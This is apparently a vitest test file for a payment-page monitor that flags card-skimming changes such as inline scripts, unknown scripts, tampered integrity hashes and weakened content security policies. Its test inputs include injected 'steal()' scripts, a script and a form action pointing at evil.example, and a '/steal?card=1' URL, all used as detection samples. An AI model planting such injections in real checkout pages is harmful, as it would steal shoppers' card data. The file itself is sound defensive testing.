import { createHash } from 'node:crypto';
import { expect, test, vi } from 'vitest';
import { detectPageFindings } from '~/payments/page-monitoring/page-findings';
import { listCspReports, recordCspReport } from '~/payments/page-monitoring/csp-reports';
import { monitorPaymentPages } from '~/payments/page-monitoring/monitoring';
import { prisma } from '~/platform/database/db.server';
import { fetch as serve } from '~/server';
import { buildApiClient } from '../../world/api-client';
import { openBrowser, readPage } from '../../world/browser';
import { buildStaff } from '../../world/identity/staff';

/** The payment page with its form, as a browser gets it. */
async function fetchPage() {
  const client = await buildApiClient();
  const { json } = await client.post('/intents/payment', {
    external_id: 'order-1',
    order: { order_amount: 2_500, order_currency: 'EUR' },
    redirect_urls: { success: 'https://shop.test/ok', failure: 'https://shop.test/failed' },
  });
  const browser = openBrowser();
  const path = `/test/checkout?client_id=${client.merchant.accountId}&intent_id=${json.intent_id}`;
  const response = await browser.open(path);
  const fetchScript = async (url: string) =>
    Buffer.from(await (await browser.open(new URL(url).pathname)).arrayBuffer());
  return {
    address: `http://localhost:3000${path}`,
    status: response.status,
    headers: response.headers,
    html: await response.text(),
    fetchScript,
  };
}

test('the page as we send it has no problem, and every change to it is one', async () => {
  const page = await fetchPage();
  expect(page.html).toContain('<script');
  expect(await detectPageFindings(page)).toEqual([]);

  const changed = (html: (text: string) => string) => detectPageFindings({ ...page, html: html(page.html) });
  const inlineScript = 'steal()';
  expect(await changed((html) => `${html}<script>${inlineScript}</script>`)).toEqual([
    `the page contains an inline script (SHA-256 ${createHash('sha256').update(inlineScript).digest('hex').slice(0, 16)})`,
  ]);
  expect(await changed((html) => `${html}<script src="https://evil.example/x.js"></script>`)).toEqual([
    'the script https://evil.example/x.js is not in the inventory',
    'the page connects to another host (script https://evil.example)',
  ]);
  expect(await changed((html) => html.replace(/integrity="sha256-./, 'integrity="sha256-?'))).toHaveLength(1);
  expect(
    await changed((html) =>
      html.replace('<form method="post"', '<form method="post" action="//evil.example/cards"'),
    ),
  ).toEqual(['the page connects to another host (form http://evil.example)']);
  expect(await changed((html) => `${html}<img src=https://evil.example/pixel>`)).toHaveLength(1);
  const alteredScript = async (url: string) => {
    const bytes = await page.fetchScript(url);
    bytes[bytes.length - 2]! ^= 1;
    return bytes;
  };
  expect(await detectPageFindings({ ...page, fetchScript: alteredScript })).toMatchObject([
    expect.stringContaining('doesn’t match the inventory'),
  ]);
  for (const name of ['content-security-policy', 'x-frame-options', 'cache-control', 'referrer-policy']) {
    const headers = new Headers(page.headers);
    headers.delete(name);
    expect(await detectPageFindings({ ...page, headers })).not.toEqual([]);
  }
  const withPolicy = (change: (contentSecurityPolicy: string) => string) => {
    const changed = new Headers(page.headers);
    changed.set('content-security-policy', change(page.headers.get('content-security-policy')!));
    return detectPageFindings({ ...page, headers: changed });
  };
  expect(
    await withPolicy((contentSecurityPolicy) =>
      contentSecurityPolicy.replace("'strict-dynamic'", "'strict-dynamic' 'unsafe-inline'"),
    ),
  ).toHaveLength(2);
  expect(
    await withPolicy(
      (contentSecurityPolicy) => `${contentSecurityPolicy}; script-src-elem https://evil.example`,
    ),
  ).toEqual(['the content security policy has the unexpected script-src-elem https://evil.example']);
  expect(
    await withPolicy((contentSecurityPolicy) => `script-src 'unsafe-inline'; ${contentSecurityPolicy}`),
  ).toHaveLength(1);
  expect(
    await withPolicy((contentSecurityPolicy) => contentSecurityPolicy.replace("; trusted-types 'none'", '')),
  ).toEqual(["the content security policy lacks trusted-types 'none'"]);
  expect(
    await withPolicy((contentSecurityPolicy) =>
      contentSecurityPolicy.replace(/report-uri \S+/, 'report-uri https://evil.example'),
    ),
  ).toHaveLength(2);
  const failing = () => Promise.reject(new Error('reset'));
  expect(await detectPageFindings({ ...page, fetchScript: failing })).toMatchObject([
    expect.stringContaining('can’t be fetched'),
  ]);
});

test('admins get one email for each problem', async () => {
  const admin = await buildStaff('admin');
  // The monitoring checks the payment page that was opened last.
  await fetchPage();
  const never = new AbortController().signal;
  const delays = { attemptDelaysMs: [0], retryDelayMs: 0 };
  const genuine = (url: string | URL | Request, init?: RequestInit) =>
    serve(new Request(url, { ...init, headers: { host: 'localhost:3000' } }), {
      incoming: { socket: { remoteAddress: '::1' } },
    } as never);
  let alteredPage = false;
  const fetchedPage = vi.spyOn(globalThis, 'fetch').mockImplementation(async (url, init) => {
    const response = await genuine(url as string, init);
    return alteredPage && String(url).includes('/test/')
      ? new Response(`${await response.text()}<script>steal()</script>`, response)
      : response;
  });
  const mails = () =>
    prisma.mail.count({ where: { recipient: admin.email, template: 'payment-page-changed' } });
  try {
    await monitorPaymentPages(never, delays);
    expect(await prisma.pageMonitoringResult.findMany({ orderBy: { environment: 'asc' } })).toMatchObject([
      { environment: 'live', findings: [] },
      { environment: 'test', findings: [] },
    ]);
    alteredPage = true;
    await monitorPaymentPages(never, delays);
    await monitorPaymentPages(never, delays);
    expect(await prisma.pageMonitoringResult.findUnique({ where: { environment: 'test' } })).toMatchObject({
      findings: [expect.stringContaining('the page contains an inline script')],
    });
    expect(await mails()).toBe(1);
    const { html } = await readPage(await admin.open('/staff/payment-page'));
    expect(html.match(/The \w+ page (is unchanged|has unexpected changes)/g)).toEqual([
      'The test page has unexpected changes',
      'The live page is unchanged',
    ]);
  } finally {
    fetchedPage.mockRestore();
  }
});

test("a request that hangs and ignores its signal doesn't delay a stop", async () => {
  const fetchedPage = vi.spyOn(globalThis, 'fetch').mockImplementation(() => new Promise(() => {}));
  const stopping = new AbortController();
  try {
    const checkPages = monitorPaymentPages(stopping.signal);
    await expect.poll(() => fetchedPage.mock.calls.length).toBe(1);
    stopping.abort();
    await checkPages;
  } finally {
    fetchedPage.mockRestore();
  }
});

test('forged reports hide no real one', async () => {
  const report = (directive: string, blocked: string, environment: 'test' | 'live' = 'live') =>
    recordCspReport(
      environment,
      JSON.stringify({ 'csp-report': { 'effective-directive': directive, 'blocked-uri': blocked } }),
    );
  for (let i = 0; i < 60; i++) await report('img-src', `https://x${i}.example`);
  const skimmingPage = `https://${crypto.randomUUID()}.example`;
  await report('script-src-elem', skimmingPage);
  await report('font-src', skimmingPage, 'test');
  const reports = (await listCspReports()).filter(({ environment }) => environment === 'live');
  expect(reports).toContainEqual(expect.objectContaining({ directive: 'script-src', blocked: skimmingPage }));
  expect(reports.filter(({ directive }) => directive === 'img-src')).toHaveLength(51);
  expect(reports).toContainEqual(
    expect.objectContaining({ directive: 'img-src', blocked: 'others', count: 10 }),
  );
});

test('browser reports are counted, without URLs', async () => {
  const browser = openBrowser();
  const headers = {
    'sec-fetch-site': 'same-origin',
    origin: 'http://localhost:3000',
    host: 'localhost:3000',
    'content-type': 'application/csp-report',
  };
  const report = (blocked: string, directive = 'script-src-elem') =>
    serve(
      new Request('http://localhost:3000/test/checkout/reports', {
        method: 'POST',
        headers,
        body: JSON.stringify({
          'csp-report': { 'effective-directive': directive, 'blocked-uri': blocked, 'script-sample': '4242' },
        }),
      }),
      {
        incoming: { socket: { remoteAddress: '::1' } },
      } as never,
    );
  const host = `${crypto.randomUUID()}.example`;
  for (let i = 0; i < 2; i++) expect((await report(`https://${host}/steal?card=1`)).status).toBe(204);
  await report('inline');
  await recordCspReport('test', 'no json');
  await recordCspReport('test', '{"csp-report":{"effective-directive":"<b>"}}');
  const reports = (await listCspReports()).filter(({ environment }) => environment === 'test');
  expect(reports).toEqual(
    expect.arrayContaining([
      expect.objectContaining({ directive: 'script-src', blocked: `https://${host}`, count: 2 }),
      expect.objectContaining({ blocked: 'inline' }),
    ]),
  );
  expect(
    (await browser.open('/test/checkout?client_id=x&intent_id=y')).headers.get('content-security-policy'),
  ).toContain('report-uri /test/checkout/reports');
});
